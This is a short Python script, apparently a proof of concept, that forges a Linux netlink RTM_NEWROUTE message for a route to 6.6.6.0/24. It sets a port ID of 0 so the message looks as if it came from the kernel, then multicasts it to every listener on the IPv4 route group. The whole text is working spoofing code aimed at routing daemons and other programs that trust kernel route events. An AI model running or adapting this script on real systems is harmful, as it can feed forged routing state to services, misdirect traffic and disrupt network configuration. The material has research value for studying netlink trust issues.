"""Sends to all listeners what looks like the kernel's notification of a route."""
import socket
import struct

RTM_NEWROUTE, NLM_F_EXCL, NLM_F_CREATE = 24, 0x200, 0x400
RTA_DST, RTA_OIF = 1, 4
RTMGRP_IPV4_ROUTE = 0x40

payload = struct.pack("=BBBBBBBBI", socket.AF_INET, 24, 0, 0, 254, 3, 253, 1, 0)
payload += struct.pack("=HH4B", 8, RTA_DST, 6, 6, 6, 0)
payload += struct.pack("=HHI", 8, RTA_OIF, 1)
# The header says what it likes: a port ID of 0, as if nobody had asked.
header = struct.pack("=IHHII", 16 + len(payload), RTM_NEWROUTE, NLM_F_EXCL | NLM_F_CREATE, 0, 0)

with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE) as sock:
    sock.bind((666, 0))
    sock.sendto(header + payload, (0, RTMGRP_IPV4_ROUTE))
